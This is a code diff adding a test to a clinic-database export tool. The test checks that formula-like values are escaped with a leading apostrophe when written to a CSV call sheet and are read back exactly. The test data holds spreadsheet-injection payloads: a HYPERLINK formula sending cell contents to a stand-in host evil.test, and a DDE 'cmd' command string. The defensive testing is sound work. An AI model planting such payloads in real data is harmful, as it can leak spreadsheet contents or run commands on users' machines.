@@ -16,7 +16,13 @@ import path from 'node:path'
 import { isDeepStrictEqual } from 'node:util'
 import postgres from 'postgres'
 import { runApply, runQueue, runStatus, type Io } from '../../ops/lib/cli.ts'
-import { csvObjects, parseCsv, stringifyCsv } from '../../ops/lib/csv.ts'
+import { parse } from 'csv-parse/sync'
+import {
+  FORMULA_START,
+  csvObjects,
+  parseCsv,
+  stringifyCsv,
+} from '../../ops/lib/csv.ts'
 import { SHEET_COLUMNS } from '../../ops/lib/queue.ts'
 
 const url = process.env.DATABASE_URL
@@ -479,6 +485,48 @@ async function main() {
       report.overall.clinics === start.clinics.length,
     'status --from db counts the round',
     report.overall,
+  )
+
+  // Facts in the database that a spreadsheet would run: written into the
+  // sheet with a leading apostrophe, read back exactly.
+  const hostile = {
+    name: '=HYPERLINK("http://evil.test/?"&A1,"Call")',
+    address: "+cmd|' /C calc'!A0",
+    website: '@SUM(1+1)',
+    hours_monday: '=1+1',
+  }
+  const target = next.call.find((c) => c.id !== spare!.id)!
+  await sql`update public.clinics set ${sql(hostile)} where id = ${target.id!}`
+  const sheets = path.join(dir, 'round-formulas')
+  r = io()
+  await runQueue(['--from', 'db', '--out', sheets, '--limit', '100'], r.io)
+  const sheetText = readFileSync(
+    path.join(
+      sheets,
+      readdirSync(sheets).find(
+        (f) => f.startsWith('call-sheet') && f.endsWith('.csv'),
+      )!,
+    ),
+    'utf8',
+  )
+  const cells = (
+    parse(sheetText.slice(1), { relax_column_count: true }) as string[][]
+  ).flat()
+  ok(
+    !cells.some((c) => FORMULA_START.test(c)) &&
+      Object.values(hostile).every((v) => cells.includes(`'${v}`)),
+    'queue --from db: every formula-like fact is written with a leading apostrophe (4 of 4)',
+  )
+  const back = csvObjects(parseCsv(sheetText)).rows.find(
+    (row) => row.cells.id === target.id,
+  )?.cells
+  ok(
+    back?.name === hostile.name &&
+      back.address === hostile.address &&
+      back.website === hostile.website &&
+      back.hours_monday === hostile.hours_monday,
+    '… and read back exactly as the database has them',
+    back,
   )
 }
 
